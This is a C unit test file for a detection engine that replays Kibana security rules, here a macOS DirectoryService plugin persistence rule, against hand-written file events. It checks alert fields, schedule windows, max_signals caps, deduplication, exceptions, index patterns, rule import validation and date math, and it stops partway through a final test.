/* Detection end to end on a real store: the seed rule on hand-written events, Kibana's
 * schedule replay (windows, event.ingested fallback, max_signals, dedup, incremental runs),
 * exceptions, index patterns, rule formats, and that index pruning never changes answers. */
#include "tests/testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/timeutil.h"
#include "detect/alertpipe.h"
#include "detect/datemath.h"
#include "detect/detect.h"
#include "detect/exceptions.h"
#include "detect/kql.h"
#include "detect/lucene.h"
#include "detect/rule.h"
#include "ingest/ingest.h"
#include "store/alerts.h"
#include "store/rules.h"
#include "store/triage.h"
#include "triage/record.h"

#define SEED "89fa6cb7-6b53-4de2-b604-648488841ab8"
#define NOW  INT64_C(1767225600000000) /* 2026-01-01T00:00:00Z, the alerts' creation time */

static struct store *db;
static struct strbuf out;

static int setup(void **state)
{
	(void)state;
	db = tu_new_case("detect");
	assert_int_equal(rules_load_pack(db, &(struct diag_sink){diag_to_stream, stderr}), 0);
	tu_seed_rule_only(db); /* the seed rule alone; test_companion_rules enables the others */
	strbuf_init(&out, 1024);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	store_close(db);
	strbuf_release(&out);
	return 0;
}

static void ingest_text(const char *text)
{
	tu_ingest_text(db, text);
}

static void import_file(const char *fixture, struct import_counts *c)
{
	char path[256];
	snprintf(path, sizeof(path), "tests/fixtures/%s", fixture);
	FILE *devnull = fopen("/dev/null", "w");
	assert_int_equal(rules_import_file(db, path, fixture, c, NULL), 0);
	fclose(devnull);
}

static struct detect_totals run_detect(const char *rule_id, const char *from, const char *to)
{
	struct detect_options o = {.rule_id = rule_id, .now_us = NOW};
	if (from) {
		assert_int_equal(time_parse_iso8601(from, strlen(from), &o.from, NULL), 0);
		assert_int_equal(time_parse_iso8601(to, strlen(to), &o.to, NULL), 0);
		o.has_range = 1;
	}
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), 0);
	return t;
}

static int alert_line(void *ctx, const struct alert_row *a)
{
	(void)ctx;
	char t[TIME_ISO_LEN];
	time_format_iso8601(a->original_time, t);
	cJSON *doc = cJSON_Parse(a->doc);
	const char *id = cJSON_GetStringValue(
	    cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.ancestors"), 0)->child);
	strbuf_addf(&out, "%s %s %s\n", a->rule_id, id ? id : "?", t);
	cJSON_Delete(doc);
	return 0;
}

/* The alerts as "rule_id event-identity event-time" lines, sorted. */
static const char *alerts(void)
{
	strbuf_reset(&out);
	struct alert_query q = {0};
	assert_int_equal(store_alerts_each(db, &q, alert_line, NULL), 0);
	tu_sort_lines(&out);
	return out.buf;
}

/* An Elastic Defend file event on a macOS host. */
static void file_event(struct strbuf *sb, const char *id, const char *ts, const char *path, const char *types,
                       const char *os)
{
	strbuf_addf(
	    sb,
	    "{\"@timestamp\":\"%s\",\"event\":{\"id\":\"%s\",\"ingested\":\"%s\",\"category\":[\"file\"]%s%s%s},"
	    "\"host\":{\"id\":\"h1\",\"name\":\"mac1\",\"os\":{\"type\":\"%s\"}},\"file\":{\"path\":\"%s\","
	    "\"name\":\"x\"},\"process\":{\"name\":\"installer\"},\"user\":{\"name\":\"root\"},"
	    "\"data_stream\":{\"type\":\"logs\",\"dataset\":\"endpoint.events.file\",\"namespace\":\"default\"}}\n",
	    ts, id, ts, types ? ",\"type\":" : "", types ? types : "", "", os, path);
}

static void test_seed_rule_on_hand_written_events(void **state)
{
	(void)state;
	struct strbuf sb;
	strbuf_init(&sb, 4096);
	const char *t = "2024-05-01T10:01:00Z";
	file_event(&sb, "create", t, "/Library/DirectoryServices/PlugIns/a.dsplug", "[\"creation\"]", "macos");
	file_event(&sb, "modify", t, "/Library/DirectoryServices/PlugIns/b.dsplug", "[\"change\"]", "macos");
	file_event(&sb, "rename", t, "/Library/DirectoryServices/PlugIns/c.dsplug", "[\"change\"]", "macos");
	file_event(&sb, "nested", t, "/Library/DirectoryServices/PlugIns/sub/d.dsplug", "[\"change\"]", "macos");
	file_event(&sb, "delete", t, "/Library/DirectoryServices/PlugIns/e.dsplug", "[\"deletion\"]", "macos");
	file_event(&sb, "both", t, "/Library/DirectoryServices/PlugIns/f.dsplug", "[\"change\",\"deletion\"]", "macos");
	file_event(&sb, "linux", t, "/Library/DirectoryServices/PlugIns/g.dsplug", "[\"change\"]", "linux");
	file_event(&sb, "lower", t, "/library/directoryservices/plugins/h.dsplug", "[\"change\"]", "macos");
	file_event(&sb, "upper", t, "/Library/DirectoryServices/PlugIns/i.DSPLUG", "[\"change\"]", "macos");
	file_event(&sb, "inside", t, "/Library/DirectoryServices/PlugIns/j.dsplug/Contents/MacOS/j", "[\"change\"]",
	           "macos");
	file_event(&sb, "notype", t, "/Library/DirectoryServices/PlugIns/k.dsplug", NULL, "macos");
	file_event(&sb, "other", t, "/Library/LaunchDaemons/l.plist", "[\"change\"]", "macos");
	/* a 7.x agent: no host.os.type, but host.os.platform (casebook derives the type) */
	strbuf_addstr(
	    &sb, "{\"@timestamp\":\"2024-05-01T10:01:00Z\",\"event\":{\"id\":\"old-agent\",\"category\":[\"file\"],"
	         "\"type\":[\"change\"]},\"host\":{\"name\":\"mac1\",\"os\":{\"platform\":\"macos\"}},"
	         "\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/m.dsplug\"}}\n");
	/* a process event at the path: not a file event */
	strbuf_addstr(
	    &sb, "{\"@timestamp\":\"2024-05-01T10:01:00Z\",\"event\":{\"id\":\"process\",\"category\":[\"process\"]},"
	         "\"host\":{\"os\":{\"type\":\"macos\"}},\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/"
	         "n.dsplug\"}}\n");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct detect_totals tot = run_detect(NULL, NULL, NULL);
	assert_int_equal(tot.rules, 1);
	assert_int_equal(tot.created, 6);
	assert_int_equal(tot.matched, 6);
	/* creation, modification, rename, nested path, no event.type, and the old agent (derived) */
	assert_string_equal(alerts(), SEED
	                    " create 2024-05-01T10:01:00.000000Z\n" SEED " modify 2024-05-01T10:01:00.000000Z\n" SEED
	                    " nested 2024-05-01T10:01:00.000000Z\n" SEED " notype 2024-05-01T10:01:00.000000Z\n" SEED
	                    " old-agent 2024-05-01T10:01:00.000000Z\n" SEED " rename 2024-05-01T10:01:00.000000Z\n");
}

static int first_alert_doc(void *ctx, const struct alert_row *a)
{
	*(char **)ctx = strdup(a->doc);
	return 1;
}

static void test_alert_document_has_kibana_fields(void **state)
{
	(void)state;
	struct strbuf sb;
	strbuf_init(&sb, 1024);
	file_event(&sb, "ev-1", "2024-05-01T10:01:00Z", "/Library/DirectoryServices/PlugIns/a.dsplug", "[\"change\"]",
	           "macos");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	run_detect(NULL, NULL, NULL);
	char *doc = NULL;
	struct alert_query q = {0};
	assert_int_equal(store_alerts_each(db, &q, first_alert_doc, &doc), 1); /* its status: it stopped */
	cJSON *a = cJSON_Parse(doc);
	free(doc);
#define STR(k) cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(a, k))
#define NUM(k) cJSON_GetNumberValue(cJSON_GetObjectItemCaseSensitive(a, k))
	assert_string_equal(STR("@timestamp"), "2026-01-01T00:00:00.000000Z");
	assert_string_equal(STR("kibana.alert.rule.name"), "Persistence via DirectoryService Plugin Modification");
	assert_string_equal(STR("kibana.alert.rule.rule_id"), SEED);
	assert_string_equal(STR("kibana.alert.rule.uuid"), "5f0b6d2e-89fa-4cb7-b604-648488841ab8");
	assert_int_equal((int)NUM("kibana.alert.rule.version"), 107);
	assert_string_equal(STR("kibana.alert.rule.type"), "query");
	assert_string_equal(STR("kibana.alert.rule.interval"), "5m");
	assert_string_equal(STR("kibana.alert.rule.from"), "now-9m");
	assert_int_equal((int)NUM("kibana.alert.rule.max_signals"), 100);
	assert_string_equal(STR("kibana.alert.severity"), "medium");
	assert_int_equal((int)NUM("kibana.alert.risk_score"), 47);
	assert_string_equal(STR("kibana.alert.workflow_status"), "open");
	assert_string_equal(STR("kibana.alert.status"), "active");
	assert_string_equal(STR("kibana.alert.original_time"), "2024-05-01T10:01:00.000000Z");
	assert_string_equal(STR("kibana.alert.original_event.id"), "ev-1");
	assert_int_equal((int)NUM("kibana.alert.depth"), 1);
	assert_string_equal(STR("kibana.alert.reason"),
	                    "file event with process installer, file x, by root on mac1 created medium alert "
	                    "Persistence via DirectoryService Plugin Modification.");
	const cJSON *anc = cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(a, "kibana.alert.ancestors"), 0);
	assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(anc, "id")), "ev-1");
	assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(anc, "index")),
	                    "logs-endpoint.events.file-default");
	const cJSON *threat = cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(a, "kibana.alert.rule.threat"), 0);
	assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(
	                        cJSON_GetObjectItemCaseSensitive(threat, "tactic"), "id")),
	                    "TA0003");
	/* the source event's own fields, nested; event.kind says signal */
	const cJSON *file = cJSON_GetObjectItemCaseSensitive(a, "file");
	assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(file, "path")),
	                    "/Library/DirectoryServices/PlugIns/a.dsplug");
	assert_string_equal(cJSON_GetStringValue(
	                        cJSON_GetObjectItemCaseSensitive(cJSON_GetObjectItemCaseSensitive(a, "event"), "kind")),
	                    "signal");
	assert_non_null(strstr(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(a, "kibana.alert.rule.note")),
	                       "### Possible investigation steps"));
	cJSON_Delete(a);
#undef STR
#undef NUM
}

static void custom_rule(void)
{
	struct import_counts c = {0};
	import_file("rule_custom.json", &c);
	assert_int_equal(c.rules_added, 1);
}

/* A file event with @timestamp ts and, when given, event.ingested ing. */
static void timed_event(struct strbuf *sb, const char *id, const char *ts, const char *ing)
{
	strbuf_addf(sb, "{\"@timestamp\":\"%s\",\"event\":{\"id\":\"%s\",\"category\":[\"file\"]", ts, id);
	if (ing)
		strbuf_addf(sb, ",\"ingested\":\"%s\"", ing);
	strbuf_addstr(sb, "},\"_note\":\"t\"}\n");
}

static void test_max_signals_caps_each_execution(void **state)
{
	(void)state;
	custom_rule(); /* every 5m from now-6m, max_signals 2, on event.ingested */
	struct strbuf sb;
	strbuf_init(&sb, 1024);
	/* five events in one minute, without event.ingested: @timestamp stands in */
	const char *ts[] = {"2024-05-01T10:01:00Z", "2024-05-01T10:01:01Z", "2024-05-01T10:01:02Z",
	                    "2024-05-01T10:01:03Z", "2024-05-01T10:01:04Z"};
	const char *id[] = {"m0", "m1", "m2", "m3", "m4"};
	for (int i = 0; i < 5; i++)
		timed_event(&sb, id[i], ts[i], NULL);
	ingest_text(sb.buf);
	struct detect_totals t = run_detect("test-file-rule", NULL, NULL);
	/* one execution (10:05, window [09:59, 10:05]) sees all five and stops at two */
	assert_int_equal(t.executions, 1);
	assert_int_equal(t.matched, 5);
	assert_int_equal(t.created, 2);
	assert_int_equal(t.capped, 1);
	assert_string_equal(alerts(), "test-file-rule m0 2024-05-01T10:01:00.000000Z\n"
	                              "test-file-rule m1 2024-05-01T10:01:01.000000Z\n");
	/* nothing new: nothing to do */
	t = run_detect("test-file-rule", NULL, NULL);
	assert_int_equal(t.executions, 0);
	assert_int_equal(t.created, 0);
	/* a new event at 10:07: only the execution at 10:10 runs; it does not see the old ones */
	strbuf_reset(&sb);
	timed_event(&sb, "m5", "2024-05-01T10:07:00Z", NULL);
	ingest_text(sb.buf);
	t = run_detect("test-file-rule", NULL, NULL);
	assert_int_equal(t.executions, 1);
	assert_int_equal(t.matched, 1);
	assert_int_equal(t.created, 1);
	assert_int_equal(t.capped, 0);
	strbuf_release(&sb);
}

static void test_overlapping_windows_and_reruns_create_no_duplicates(void **state)
{
	(void)state;
	custom_rule();
	struct strbuf sb;
	strbuf_init(&sb, 1024);
	timed_event(&sb, "o1", "2024-05-01T10:04:30Z", "2024-05-01T10:04:30Z");
	timed_event(&sb, "o2", "2024-05-01T10:08:00Z", "2024-05-01T10:08:00Z");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	/* executions at 10:05 ([09:59, 10:05]) and 10:10 ([10:04, 10:10]) both see o1 */
	struct detect_totals t = run_detect("test-file-rule", NULL, NULL);
	assert_int_equal(t.executions, 2);
	assert_int_equal(t.created, 2);
	assert_int_equal(t.duplicates, 0);
	/* replaying the same range again finds every alert made already */
	t = run_detect("test-file-rule", "2024-05-01T10:00:00Z", "2024-05-01T10:10:00Z");
	assert_int_equal(t.executions, 3); /* 10:00, 10:05, 10:10 */
	assert_int_equal(t.created, 0);
	assert_int_equal(t.duplicates, 2);
	assert_int_equal(tu_count(alerts(), "\n"), 2);
}

static void test_event_ingested_decides_the_window(void **state)
{
	(void)state;
	custom_rule();
	struct strbuf sb;
	strbuf_init(&sb, 1024);
	timed_event(&sb, "late-ts", "2024-05-01T08:00:00Z", "2024-05-01T10:03:00Z"); /* ingested in the window */
	timed_event(&sb, "late-ing", "2024-05-01T10:03:00Z",
	            "2024-05-01T11:00:00Z");                      /* @timestamp in it, not ingested */
	timed_event(&sb, "no-ing", "2024-05-01T10:02:00Z", NULL); /* falls back to @timestamp */
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct detect_totals t = run_detect("test-file-rule", "2024-05-01T10:05:00Z", "2024-05-01T10:05:00Z");
	assert_int_equal(t.executions, 1);
	assert_int_equal(t.created, 2);
	assert_string_equal(alerts(), "test-file-rule late-ts 2024-05-01T08:00:00.000000Z\n"
	                              "test-file-rule no-ing 2024-05-01T10:02:00.000000Z\n");
}

static void test_index_patterns(void **state)
{
	(void)state;
	const char *const endpoint[] = {"logs-endpoint.events.*"};
	assert_true(index_matches(endpoint, 1, "logs-endpoint.events.file-default"));
	assert_true(index_matches(endpoint, 1, ".ds-logs-endpoint.events.file-default-000003"));
	assert_true(index_matches(endpoint, 1, ".ds-logs-endpoint.events.process-default-2024.05.01-000001"));
	assert_true(index_matches(endpoint, 1, NULL)); /* unknown index: every pattern */
	assert_false(index_matches(endpoint, 1, "logs-endpoint.alerts-default"));
	assert_false(index_matches(endpoint, 1, ".ds-logs-system.auth-default-000001"));
	const char *const two[] = {"logs-*", "-logs-endpoint.alerts-*"};
	assert_true(index_matches(two, 2, "logs-system.auth-default"));
	assert_false(index_matches(two, 2, "logs-endpoint.alerts-default"));
	assert_true(index_matches(NULL, 0, "anything"));
	/* and in a run: an event from another data stream is not searched */
	custom_rule();
	ingest_text("{\"@timestamp\":\"2024-05-01T10:01:00Z\",\"event\":{\"id\":\"elsewhere\",\"category\":[\"file\"]},"
	            "\"data_stream\":{\"type\":\"logs\",\"dataset\":\"system.auth\",\"namespace\":\"default\"}}\n"
	            "{\"_index\":\".ds-logs-endpoint.events.file-default-000001\",\"_id\":\"hit-1\",\"_source\":"
	            "{\"@timestamp\":\"2024-05-01T10:01:00Z\",\"event\":{\"category\":[\"file\"]}}}\n");
	run_detect("test-file-rule", NULL, NULL);
	assert_string_equal(alerts(), "test-file-rule hit-1 2024-05-01T10:01:00.000000Z\n");
}

static void test_exceptions_suppress_exactly_what_they_should(void **state)
{
	(void)state;
	struct import_counts c = {0};
	import_file("export.ndjson", &c);
	assert_int_equal(c.rules_added, 1);
	assert_int_equal(c.lists, 1);
	assert_int_equal(c.items, 7);
	assert_int_equal(c.summaries, 1);
	const char *t = "\"@timestamp\":\"2024-05-01T10:01:00Z\",\"event\":{\"category\":[\"file\"],\"id\":";
	struct strbuf sb;
	strbuf_init(&sb, 4096);
	strbuf_addf(&sb, "{%s\"x-installer\"},\"process\":{\"name\":\"installer\"}}\n", t);   /* match */
	strbuf_addf(&sb, "{%s\"x-installerd\"},\"process\":{\"name\":\"installerd\"}}\n", t); /* kept */
	strbuf_addf(&sb, "{%s\"x-svc2\"},\"user\":{\"name\":\"svc2\"}}\n", t);                /* match_any */
	strbuf_addf(&sb, "{%s\"x-svc3\"},\"user\":{\"name\":\"svc3\"}}\n", t);                /* kept */
	strbuf_addf(&sb, "{%s\"x-log\"},\"file\":{\"path\":\"/tmp/a/b.log\"}}\n", t);         /* wildcard */
	strbuf_addf(&sb, "{%s\"x-lag\"},\"file\":{\"path\":\"/tmp/x.lag\"}}\n", t);           /* '?' */
	strbuf_addf(&sb, "{%s\"x-logs\"},\"file\":{\"path\":\"/tmp/x.logs\"}}\n", t);         /* kept */
	strbuf_addf(&sb, "{%s\"x-md5\"},\"file\":{\"hash\":{\"md5\":\"abc\"}}}\n", t);        /* exists */
	strbuf_addf(&sb, "{%s\"x-mv-root\"},\"process\":{\"name\":\"mv\"},\"user\":{\"name\":\"root\"}}\n", t);
	strbuf_addf(&sb, "{%s\"x-mv-amy\"},\"process\":{\"name\":\"mv\"},\"user\":{\"name\":\"amy\"}}\n", t); /* kept */
	strbuf_addf(&sb, "{%s\"x-cp-dev\"},\"process\":{\"name\":\"cp\"},\"host\":{\"name\":\"dev1\"}}\n", t);
	strbuf_addf(&sb, "{%s\"x-cp-prod\"},\"process\":{\"name\":\"cp\"},\"host\":{\"name\":\"prod1\"}}\n",
	            t); /* kept */
	strbuf_addf(&sb, "{%s\"x-cp-nohost\"},\"process\":{\"name\":\"cp\"}}\n",
	            t); /* excluded entry holds: suppressed */
	strbuf_addf(&sb,
	            "{%s\"x-nested\"},\"users\":[{\"name\":\"bob\",\"role\":\"owner\"},"
	            "{\"name\":\"admin\",\"role\":\"owner\"}]}\n",
	            t); /* nested */
	strbuf_addf(&sb,
	            "{%s\"x-split\"},\"users\":[{\"name\":\"admin\",\"role\":\"user\"},"
	            "{\"name\":\"bob\",\"role\":\"owner\"}]}\n",
	            t); /* nested: no one element has both: kept */
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct detect_totals tot = run_detect("exported-rule", NULL, NULL);
	assert_int_equal(tot.suppressed, 9);
	assert_int_equal(tot.created, 6);
	assert_string_equal(alerts(), "exported-rule x-cp-prod 2024-05-01T10:01:00.000000Z\n"
	                              "exported-rule x-installerd 2024-05-01T10:01:00.000000Z\n"
	                              "exported-rule x-logs 2024-05-01T10:01:00.000000Z\n"
	                              "exported-rule x-mv-amy 2024-05-01T10:01:00.000000Z\n"
	                              "exported-rule x-split 2024-05-01T10:01:00.000000Z\n"
	                              "exported-rule x-svc3 2024-05-01T10:01:00.000000Z\n");
}

static void test_exception_added_from_the_command_line(void **state)
{
	(void)state;
	struct strbuf sb;
	strbuf_init(&sb, 2048);
	file_event(&sb, "signed", "2024-05-01T10:01:00Z", "/Library/DirectoryServices/PlugIns/a.dsplug", "[\"change\"]",
	           "macos");
	file_event(&sb, "unsigned", "2024-05-01T10:01:00Z", "/Library/DirectoryServices/PlugIns/b.dsplug",
	           "[\"change\"]", "macos");
	/* make the first one signed by Apple */
	char *p = strstr(sb.buf, "\"process\":{\"name\":\"installer\"}");
	assert_non_null(p);
	struct strbuf fixed;
	strbuf_init(&fixed, 2048);
	strbuf_add(&fixed, sb.buf, (size_t)(p - sb.buf));
	strbuf_addstr(
	    &fixed, "\"process\":{\"name\":\"installer\",\"code_signature\":{\"subject_name\":\"Software Signing\"}}");
	strbuf_addstr(&fixed, p + strlen("\"process\":{\"name\":\"installer\"}"));
	ingest_text(fixed.buf);
	strbuf_release(&fixed);
	strbuf_release(&sb);
	const char *values[] = {"Software Signing"};
	struct exception_spec spec = {.field = "process.code_signature.subject_name",
	                              .type = "match",
	                              .values = values,
	                              .nvalues = 1,
	                              .comment = "Apple updates",
	                              .analyst = "amy",
	                              .now_us = NOW};
	char item[40], err[200];
	assert_int_equal(exception_add(db, SEED, &spec, item, err, sizeof(err)), 0);
	assert_int_equal(exception_add(db, "no-such-rule", &spec, item, err, sizeof(err)), 1);
	struct exception_spec bad = {.field = "x", .type = "exists", .values = values, .nvalues = 1, .analyst = "a"};
	assert_int_equal(exception_add(db, SEED, &bad, item, err, sizeof(err)), -1);
	assert_string_equal(err, "--type exists takes no --value");
	struct detect_totals t = run_detect(NULL, NULL, NULL);
	assert_int_equal(t.suppressed, 1);
	assert_string_equal(alerts(), SEED " unsigned 2024-05-01T10:01:00.000000Z\n");
}

static int count_rule(void *ctx, const struct rule_row *r)
{
	(void)r;
	(*(int *)ctx)++;
	return 0;
}

static void test_rule_formats_and_defaults(void **state)
{
	(void)state;
	struct import_counts c = {0};
	import_file("package.json", &c);
	assert_int_equal(c.rules_added, 1);
	import_file("package.json", &c);
	assert_int_equal(c.rules_unchanged, 1);
	memset(&c, 0, sizeof(c));
	FILE *mem = tmpfile();
	assert_int_equal(rules_import_file(db, "tests/fixtures/unsupported.ndjson", "u", &c,
	                                   &(struct diag_sink){diag_to_stream, mem}),
	                 0);
	rewind(mem);
	char msgs[2048] = "";
	size_t n = fread(msgs, 1, sizeof(msgs) - 1, mem);
	msgs[n] = '\0';
	fclose(mem);
	assert_int_equal(c.rules_added, 2);
	assert_int_equal(c.unsupported, 2);
	assert_int_equal(c.rules_invalid, 2);
	assert_string_equal(
	    msgs, "tests/fixtures/unsupported.ndjson:1: rule \"A threshold rule\" (threshold-rule) stored but "
	          "detect will skip it: a threshold rule needs threshold.value, a whole number from 1 to 2147483647\n"
	          "tests/fixtures/unsupported.ndjson:2: rule \"A Lucene rule\" (lucene-rule) stored but detect "
	          "will skip it: the lucene query: column 4: '~' is not supported in a term (KQL cannot say it)\n"
	          "tests/fixtures/unsupported.ndjson:3: skipped: the rule has no \"name\"\n"
	          "tests/fixtures/unsupported.ndjson:4: skipped: not valid JSON\n");
	int rules = 0;
	assert_int_equal(store_rules_each(db, count_rule, &rules), 0);
	assert_int_equal(rules, 9); /* the pack's six, the package's, and the two unsupported ones */
	/* defaults as Kibana fills them, and unknown fields kept */
	custom_rule();
	struct rule r;
	char why[200];
	cJSON *obj = cJSON_Parse("{\"rule_id\":\"d\",\"name\":\"n\",\"description\":\"d\",\"risk_score\":1,"
	                         "\"severity\":\"low\",\"type\":\"query\",\"query\":\"a:b\",\"x-extra\":42}");
	assert_int_equal(rule_from_json(obj, &r, why, sizeof(why)), 0);
	assert_string_equal(r.interval, "5m");
	assert_string_equal(r.from, "now-6m");
	assert_string_equal(r.to, "now");
	assert_int_equal(r.max_signals, 100);
	assert_int_equal(r.lookback_us, 360 * TIME_US_PER_SEC);
	assert_string_equal(r.language, "kuery");
	assert_null(r.unsupported);
	assert_int_equal((int)cJSON_GetNumberValue(cJSON_GetObjectItemCaseSensitive(r.obj, "x-extra")), 42);
	rule_release(&r);
	cJSON_Delete(obj);
	/* numbers out of range or of the wrong kind are errors, not undefined conversions (fuzz_rule) */
	static const char *const bad[][2] = {
	    {"\"max_signals\":1e71", "\"max_signals\" must be a whole number from -2147483648 to 2147483647"},
	    {"\"version\":2.5", "\"version\" must be a whole number from 1 to 2147483647"},
	    {"\"version\":\"7\"", "\"version\" must be a whole number from 1 to 2147483647"},
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		char text[300];
		snprintf(text, sizeof(text),
		         "{\"rule_id\":\"d\",\"name\":\"n\",\"description\":\"d\",\"risk_score\":1,"
		         "\"severity\":\"low\",\"type\":\"query\",\"query\":\"a:b\",%s}",
		         bad[i][0]);
		obj = cJSON_Parse(text);
		assert_int_equal(rule_from_json(obj, &r, why, sizeof(why)), -1);
		assert_string_equal(why, bad[i][1]);
		cJSON_Delete(obj);
	}
	obj = cJSON_Parse("{\"rule_id\":\"d\",\"name\":\"n\",\"description\":\"d\",\"risk_score\":101,"
	                  "\"severity\":\"low\",\"type\":\"query\",\"query\":\"a:b\"}");
	assert_int_equal(rule_from_json(obj, &r, why, sizeof(why)), -1);
	assert_string_equal(why, "\"risk_score\" must be a whole number from 0 to 100");
	cJSON_Delete(obj);
}

static int64_t at(const char *iso)
{
	int64_t us;
	assert_int_equal(time_parse_iso8601(iso, strlen(iso), &us, NULL), 0);
	return us;
}

/* Kibana's date math (@kbn/datemath): calendar years and months, weeks, rounding down for
 * "from" and up for "to". Each answer is what moment gives for the same now. */
static void test_date_math(void **state)
{
	(void)state;
	static const struct {
		const char *expr, *now;
		int round_up;
		const char *want;
	} cases[] = {
	    {"now-6060s", "2024-05-01T10:00:00Z", 0, "2024-05-01T08:19:00Z"},
	    {"now-1y", "2024-02-29T12:00:00Z", 0, "2023-02-28T12:00:00Z"},
	    {"now-1M", "2024-03-31T00:00:00Z", 0, "2024-02-29T00:00:00Z"},
	    {"now-2w", "2024-05-15T06:00:00Z", 0, "2024-05-01T06:00:00Z"},
	    {"now/d", "2024-05-01T10:11:12.5Z", 0, "2024-05-01T00:00:00Z"},
	    {"now/d", "2024-05-01T10:11:12.5Z", 1, "2024-05-01T23:59:59.999999Z"},
	    {"now-1d/d", "2024-05-01T10:00:00Z", 0, "2024-04-30T00:00:00Z"},
	    {"now/w", "2024-05-01T10:00:00Z", 0, "2024-04-28T00:00:00Z"}, /* a Sunday */
	    {"now/M", "2024-05-17T10:00:00Z", 1, "2024-05-31T23:59:59.999999Z"},
	    {"now/y", "2024-05-17T10:00:00Z", 0, "2024-01-01T00:00:00Z"},
	    {"now-1000000d", "2024-05-01T00:00:00Z", 0, "-0714-03-01T00:00:00Z"},
	    {"now+1h-30m", "2024-05-01T00:00:00Z", 0, "2024-05-01T00:30:00Z"},
	    {"now-90ms", "2024-05-01T00:00:00Z", 0, "2024-04-30T23:59:59.910Z"},
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct date_math m;
		char why[120];
		assert_int_equal(date_math_parse(cases[i].expr, &m, why, sizeof(why)), 0);
		int64_t got = date_math_apply(&m, at(cases[i].now), cases[i].round_up);
		if (cases[i].want[0] == '-')
			assert_int_equal(got, at(cases[i].now) - INT64_C(1000000) * 86400 * TIME_US_PER_SEC);
		else if (got != at(cases[i].want))
			fail_msg("%s at %s: got %lld", cases[i].expr, cases[i].now, (long long)got);
		int64_t least, most, back = at(cases[i].now) - got;
		date_math_bounds(&m, cases[i].round_up, &least, &most);
		assert_true(least <= back && back <= most);
	}
	static const struct {
		const char *expr, *why;
	} bad[] = {
	    {"yesterday", "date math starts with \"now\""},
	    {"now-", "expected a number after '-'"},
	    {"now-5q", "expected a number below 10^7 and a unit: y, M, w, d, h, m, s, ms"},
	    {"now/x", "rounding takes a unit: y, M, w, d, h, m, s"},
	    {"now*2", "unexpected '*': date math is now, then +N, -N or / with a unit"},
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct date_math m;
		char why[120];
		assert_int_equal(date_math_parse(bad[i].expr, &m, why, sizeof(why)), -1);
		assert_string_equal(why, bad[i].why);
	}
}

/* Date math reaches at most 10,000 years (of 366 days) from now, each step and all of them
 * together, so no instant it makes overflows: now-9999999y overflowed a signed integer
 * (UBSan aborted rules import; the release build said "from must not be after to"). A rule
 * says which of its fields is out of range; an interval too, and what its range is. */
static void test_date_math_out_of_range_is_named(void **state)
{
	(void)state;
	static const struct {
		const char *expr, *why;
	} far[] = {
	    {"now-9999999y", "-9999999y reaches beyond 10000 years from now"},
	    {"now+9999999y", "+9999999y reaches beyond 10000 years from now"},
	    {"now-9999999M", "-9999999M reaches beyond 10000 years from now"},
	    {"now-9999999w", "-9999999w reaches beyond 10000 years from now"},
	    {"now-9999999w-9999999w-9999999w-9999999w", "-9999999w reaches beyond 10000 years from now"},
	    {"now-5000y-5000y-1d", "-1d reaches beyond 10000 years from now"},
	    {"now-3660000d+1h", "+1h reaches beyond 10000 years from now"},
	};
	for (size_t i = 0; i < sizeof(far) / sizeof(far[0]); i++) {
		struct date_math m;
		char why[120];
		assert_int_equal(date_math_parse(far[i].expr, &m, why, sizeof(why)), -1);
		assert_string_equal(why, far[i].why);
	}
	struct date_math m;
	char why[120];
	assert_int_equal(date_math_parse("now-9999y/y", &m, why, sizeof(why)), 0);
	assert_int_equal(date_math_parse("now-3660000d", &m, why, sizeof(why)), 0);
	int64_t least, most;
	date_math_bounds(&m, 0, &least, &most);
	assert_int_equal(most, INT64_C(3660000) * 86400 * TIME_US_PER_SEC);
	static const struct {
		const char *fields, *why;
	} rules[] = {
	    {"\"from\":\"now-9999999y\"", "\"from\" (now-9999999y) must be date math such as now-6m: -9999999y "
	                                  "reaches beyond 10000 years from now"},
	    {"\"to\":\"now+9999999M\"", "\"to\" (now+9999999M) must be date math such as now: +9999999M "
	                                "reaches beyond 10000 years from now"},
	    {"\"interval\":\"9999999d\"", "\"interval\" (9999999d) must be a duration such as 5m: a number up to "
	                                  "1000000 and a unit, ms, s, m, h or d"},
	};
	for (size_t i = 0; i < sizeof(rules) / sizeof(rules[0]); i++) {
		char text[400];
		snprintf(text, sizeof(text),
		         "{\"rule_id\":\"d\",\"name\":\"n\",\"description\":\"d\",\"risk_score\":1,"
		         "\"severity\":\"low\",\"type\":\"query\",\"query\":\"a:b\",%s}",
		         rules[i].fields);
		cJSON *obj = cJSON_Parse(text);
		struct rule r;
		char rwhy[200];
		assert_int_equal(rule_from_json(obj, &r, rwhy, sizeof(rwhy)), -1);
		assert_string_equal(rwhy, rules[i].why);
		cJSON_Delete(obj);
	}
}

/* A rule whose window is a calendar day ("now-1d/d" to "now/d"): each execution sees
 * yesterday, whole, whatever its hour; and a schedule of 1 s over 1,000,000 days replays in
 * time linear in executions plus hits (it was executions x hits: 58 s for 2,000 events). */
static void test_calendar_windows_and_long_schedules(void **state)
{
	(void)state;
	struct strbuf sb;
	strbuf_init(&sb, 1 << 16);
	strbuf_addstr(
	    &sb, "{\"rule_id\":\"day-rule\",\"name\":\"Yesterday\",\"description\":\"d\",\"type\":\"query\","
